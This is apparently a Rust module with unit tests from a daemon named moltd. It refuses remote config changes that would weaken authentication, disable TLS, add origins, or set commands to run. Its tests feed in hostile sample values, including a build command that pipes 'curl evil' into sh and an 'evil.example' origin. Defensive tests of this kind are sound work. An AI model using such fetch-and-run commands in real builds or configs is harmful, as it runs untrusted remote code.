//! What a client may not change over the wire, however admin it is:
//! anything that weakens authentication, exposes the gateway without it,
//! lets a new browser origin in, or names a command for moltd to run.
//! Those take an edit of the file, which moltd applies at its next start
//! (or reload): whoever can edit it already runs as moltd's user.

use molt_protocol::secret::MIN_TOKEN_CHARS;
use serde_json::Value;

use super::{AuthMode, Settings, changed_paths};

/// A change refused over the wire, and why.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{key}: {why}")]
pub struct FileOnly {
    pub key: String,
    pub why: String,
}

fn refuse(key: &str, why: impl Into<String>) -> Result<(), FileOnly> {
    Err(FileOnly {
        key: key.to_owned(),
        why: why.into(),
    })
}

/// Whether a key names a command to run (`buildCommand`, `preCmd`, …).
fn is_command_key(key: &str) -> bool {
    let key = key.to_ascii_lowercase();
    key.ends_with("command") || key.ends_with("cmd")
}

/// Checks the change from `before` to `after` (both whole configs, the
/// patch applied) for what only the file may change.
pub fn check(before: &Value, after: &Value) -> Result<(), FileOnly> {
    for path in changed_paths(before, after) {
        let removed = pointer(after, &path).is_none_or(Value::is_null);
        if !removed && path.split('.').any(is_command_key) {
            return refuse(&path, "names a command for moltd to run");
        }
    }
    let (Ok(old), Ok(new)) = (Settings::from_value(before), Settings::from_value(after)) else {
        // An invalid result is refused by validation, with its own message.
        return Ok(());
    };
    let (old, new) = (&old.gateway, &new.gateway);
    if old.auth_mode == AuthMode::Token && new.auth_mode == AuthMode::None {
        return refuse("gateway.auth.mode", "would turn authentication off");
    }
    let chars = |t: &Option<String>| t.as_ref().map(|t| t.chars().count());
    match (chars(&old.auth_token), chars(&new.auth_token)) {
        (Some(_), None) => return refuse("gateway.auth.token", "would remove the token"),
        (was, Some(now)) if old.auth_token != new.auth_token => {
            let least = was.unwrap_or(0).max(MIN_TOKEN_CHARS);
            if now < least {
                return refuse(
                    "gateway.auth.token",
                    format!("a new token must have at least {least} characters, got {now}"),
                );
            }
        }
        _ => {}
    }
    if let Some(now) = chars(&new.read_token)
        && old.read_token != new.read_token
        && now < MIN_TOKEN_CHARS
    {
        return refuse(
            "gateway.auth.readToken",
            format!("a read token must have at least {MIN_TOKEN_CHARS} characters, got {now}"),
        );
    }
    let (was, now) = (&old.rate_limit, &new.rate_limit);
    if now.max_attempts > was.max_attempts
        || now.lockout < was.lockout
        || now.window < was.window
        || (now.exempt_loopback && !was.exempt_loopback)
    {
        return refuse(
            "gateway.auth.rateLimit",
            "would let a guesser try more often",
        );
    }
    if !new.bind.is_loopback() && old.bind != new.bind {
        if new.auth_mode == AuthMode::None {
            return refuse("gateway.bind", "would listen beyond loopback without auth");
        }
        if chars(&new.auth_token).is_some_and(|n| n < MIN_TOKEN_CHARS) {
            return refuse(
                "gateway.bind",
                "would listen beyond loopback with a short token",
            );
        }
    }
    if old.tls.enabled && !new.tls.enabled {
        return refuse("gateway.tls.enabled", "would send tokens in clear");
    }
    // moltd writes a generated pair where these point: a caller must not
    // choose the paths of files it makes moltd write or trust.
    if old.tls.cert_path != new.tls.cert_path {
        return refuse("gateway.tls.certPath", "names a file moltd reads or writes");
    }
    if old.tls.key_path != new.tls.key_path {
        return refuse("gateway.tls.keyPath", "names a file moltd reads or writes");
    }
    if let Some(origin) = new
        .allowed_origins
        .iter()
        .find(|o| !old.allowed_origins.contains(o))
    {
        return refuse(
            "gateway.controlUi.allowedOrigins",
            format!("would let pages from {origin} connect"),
        );
    }
    Ok(())
}

fn pointer<'a>(value: &'a Value, dotted: &str) -> Option<&'a Value> {
    dotted
        .split('.')
        .try_fold(value, |v, key| v.as_object().and_then(|m| m.get(key)))
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    const TOKEN: &str = "a-token-of-exactly-thirty-chars";

    fn patched(before: &Value, patch: Value) -> Value {
        let mut after = before.clone();
        super::super::merge_patch(&mut after, &patch);
        after
    }

    #[test]
    fn every_weakening_change_is_refused_naming_its_key() {
        let before = json!({
            "gateway": {"auth": {"token": TOKEN, "rateLimit": {"maxAttempts": 5}},
                        "controlUi": {"allowedOrigins": ["https://a.example"]},
                        "tls": {"enabled": true}},
            "update": {"git": {"buildCommand": ["cargo", "build"]}}
        });
        let cases = [
            (
                json!({"gateway": {"auth": {"mode": "none"}}}),
                "gateway.auth.mode",
            ),
            (
                json!({"gateway": {"auth": {"token": null}}}),
                "gateway.auth.token",
            ),
            (
                json!({"gateway": {"auth": {"token": "short-but-new"}}}),
                "gateway.auth.token",
            ),
            (
                json!({"gateway": {"auth": {"token": "x".repeat(29)}}}),
                "gateway.auth.token",
            ),
            (
                json!({"gateway": {"auth": {"readToken": "short"}}}),
                "gateway.auth.readToken",
            ),
            (
                json!({"gateway": {"auth": {"rateLimit": {"maxAttempts": 50}}}}),
                "gateway.auth.rateLimit",
            ),
            (
                json!({"gateway": {"auth": {"rateLimit": {"exemptLoopback": true}}}}),
                "gateway.auth.rateLimit",
            ),
            (
                json!({"gateway": {"auth": {"rateLimit": {"lockoutMs": 1}}}}),
                "gateway.auth.rateLimit",
            ),
            (
                json!({"gateway": {"controlUi": {"allowedOrigins": ["https://a.example", "https://evil.example"]}}}),
                "gateway.controlUi.allowedOrigins",
            ),
            (
                json!({"update": {"git": {"buildCommand": ["sh", "-c", "curl evil | sh"]}}}),
                "update.git.buildCommand",
            ),
            (
                json!({"hooks": {"onStart": {"command": "id"}}}),
                "hooks.onStart.command",
            ),
            (
                json!({"gateway": {"tls": {"enabled": false}}}),
                "gateway.tls.enabled",
            ),
            (
                json!({"gateway": {"tls": {"certPath": "/tmp/cert.pem"}}}),
                "gateway.tls.certPath",
            ),
            (
                json!({"gateway": {"tls": {"keyPath": "/tmp/key.pem"}}}),
                "gateway.tls.keyPath",
            ),
        ];
        for (patch, key) in cases {
            let error = check(&before, &patched(&before, patch.clone())).unwrap_err();
            assert_eq!(error.key, key, "{patch}");
        }
        let mut lan = json!({"gateway": {"auth": {"token": "short-token"}}});
        let error = check(&lan, &patched(&lan, json!({"gateway": {"bind": "lan"}}))).unwrap_err();
        assert_eq!(error.key, "gateway.bind");
        lan = json!({"gateway": {"auth": {"mode": "none"}}});
        // Invalid as a config anyway; validation says so with its own words.
        assert_eq!(
            check(&lan, &patched(&lan, json!({"gateway": {"bind": "lan"}}))),
            Ok(())
        );
    }

    #[test]
    fn strengthening_and_unrelated_changes_pass() {
        let before = json!({
            "gateway": {"auth": {"mode": "none", "rateLimit": {"maxAttempts": 5}},
                        "controlUi": {"allowedOrigins": ["https://a.example"]}},
            "update": {"git": {"buildCommand": ["cargo", "build"]}}
        });
        for patch in [
            json!({"gateway": {"auth": {"mode": "token", "token": TOKEN}}}),
            json!({"gateway": {"auth": {"rateLimit": {"maxAttempts": 2, "lockoutMs": 900000}}}}),
            json!({"gateway": {"controlUi": {"allowedOrigins": []}}}),
            json!({"update": {"git": {"buildCommand": null}}}),
            json!({"update": {"channel": "beta"}, "commands": {"restart": false}}),
        ] {
            assert_eq!(
                check(&before, &patched(&before, patch.clone())),
                Ok(()),
                "{patch}"
            );
        }
        let token = json!({"gateway": {"auth": {"token": TOKEN}}});
        let longer = json!({"gateway": {"auth": {"token": format!("{TOKEN}-and-longer")}}});
        assert_eq!(check(&token, &patched(&token, longer)), Ok(()));
    }
}
